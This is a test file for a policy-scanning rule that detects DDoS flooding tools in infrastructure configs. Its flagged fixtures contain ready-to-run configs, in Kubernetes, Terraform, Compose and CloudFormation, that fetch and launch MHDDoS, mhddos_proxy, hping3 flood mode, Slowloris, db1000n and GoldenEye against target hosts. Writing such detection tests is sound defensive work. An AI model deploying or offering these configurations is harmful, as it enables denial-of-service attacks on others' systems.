import rule from '../../../src/engine/rules/flooding-tool';
import { ruleTester } from '../rule-tester';

const id = 'AUP-ATK-002';

ruleTester.run(rule, {
	flagged: [
		{
			name: 'an mhddos_proxy image in a Kubernetes DaemonSet',
			path: 'k8s/agent.yaml',
			source: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: edge-agent
spec:
  selector:
    matchLabels: { app: edge-agent }
  template:
    metadata:
      labels: { app: edge-agent }
    spec:
      containers:
        - name: agent
          image: ghcr.io/porthole-ascend-cinnamon/mhddos_proxy:latest
          args: ["--itarmy", "-t", "8000"]
`,
			findings: [{ ruleId: id, line: 13, character: 50, endLine: 13, endCharacter: 62, text: 'mhddos_proxy', message: /^Container image \('image' of DaemonSet 'edge-agent'\) is the flooding tool mhddos_proxy, built to overwhelm/ }],
		},
		{
			name: 'user data that clones MHDDoS and starts it, and hping3 told to flood',
			path: 'main.tf',
			source: `resource "aws_instance" "stress" {
  count         = 20
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "c5.large"

  user_data = <<-EOT
    #!/bin/bash
    apt-get update && apt-get install -y git python3-pip hping3
    git clone https://github.com/MatrixTM/MHDDoS.git /opt/MHDDoS
    pip3 install -r /opt/MHDDoS/requirements.txt
    cd /opt/MHDDoS && python3 start.py UDP 203.0.113.10:53 1 3600
    hping3 -S --flood -V -p 443 203.0.113.10
  EOT
}
`,
			findings: [
				{ ruleId: id, line: 8, character: 42, endLine: 8, endCharacter: 48, text: 'MHDDoS', message: /^This git command \('user_data' of aws_instance\.stress\) fetches or installs the flooding tool MHDDoS/ },
				{ ruleId: id, line: 9, character: 25, endLine: 9, endCharacter: 31, text: 'MHDDoS', message: /^This pip3 command/ },
				{ ruleId: id, line: 11, character: 4, endLine: 11, endCharacter: 21, text: 'hping3 -S --flood', message: /runs hping3 in flood mode/ },
			],
		},
		{
			name: 'Slowloris run by an exec-form Compose command, and db1000n as an image',
			path: 'docker-compose.yml',
			source: `services:
  checker:
    image: python:3.12-slim
    command: ["python3", "/opt/slowloris/slowloris.py", "shop.example.net", "-s", "500"]
  worker:
    image: ghcr.io/arriven/db1000n:latest
    restart: always
`,
			findings: [
				{ ruleId: id, line: 3, character: 41, endLine: 3, endCharacter: 50, text: 'slowloris', message: /runs the flooding tool Slowloris/ },
				{ ruleId: id, line: 5, character: 27, endLine: 5, endCharacter: 34, text: 'db1000n' },
			],
		},
		{
			name: 'GoldenEye run from CloudFormation user data',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Node:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-0c55b159cbfafe1f0
      InstanceType: t3.micro
      UserData:
        Fn::Base64: |
          #!/bin/bash
          git clone https://github.com/jseidl/GoldenEye /opt/ge
          /opt/ge/goldeneye.py https://target.example.org -w 50 -s 500
`,
			findings: [
				{ ruleId: id, line: 10, character: 28, endLine: 10, endCharacter: 55, text: 'github.com/jseidl/GoldenEye', message: /fetches or installs the flooding tool GoldenEye/ },
				{ ruleId: id, line: 11, character: 18, endLine: 11, endCharacter: 27, text: 'goldeneye', message: /runs the flooding tool GoldenEye/ },
			],
		},
	],
	clean: [
		{
			name: 'a k6 load test against the team\'s own staging environment',
			path: 'k8s/loadtest.yaml',
			source: `apiVersion: batch/v1
kind: Job
metadata:
  name: checkout-load-test
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: k6
          image: grafana/k6:0.50.0
          args: ["run", "--vus", "50", "--duration", "5m", "/scripts/checkout.js"]
        - name: wrk
          image: williamyeh/wrk
          command: ["wrk", "-t4", "-c100", "-d60s", "https://staging.shop.internal/"]
        - name: bombardier
          image: alpine/bombardier
          args: ["-c", "50", "-n", "10000", "https://staging.shop.internal/health"]
`,
		},
		{
			name: 'hping3 sending three probe packets, and look-alike names (goldeneye-dashboard, a hulk label)',
			path: 'docker-compose.yml',
			source: `# Formerly used slowloris to test the proxy timeouts; see the wiki.
services:
  probe:
    image: acme/netprobe:2
    command: hping3 -S -c 3 -p 443 api.internal
    labels:
      description: "not a flooding tool; mhddos is mentioned here only as text"
  dashboard:
    image: acme/goldeneye-dashboard:1.4
    environment:
      TEAM: hulk
`,
		},
		{
			name: 'a Terraform load-test runner with Locust',
			path: 'load.tf',
			source: `resource "aws_instance" "locust" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "c5.large"
  user_data     = <<-EOT
    #!/bin/bash
    pip3 install locust
    locust -f /opt/tests/locustfile.py --headless -u 200 -r 20 --host https://staging.example.com
  EOT
}
`,
		},
	],
});
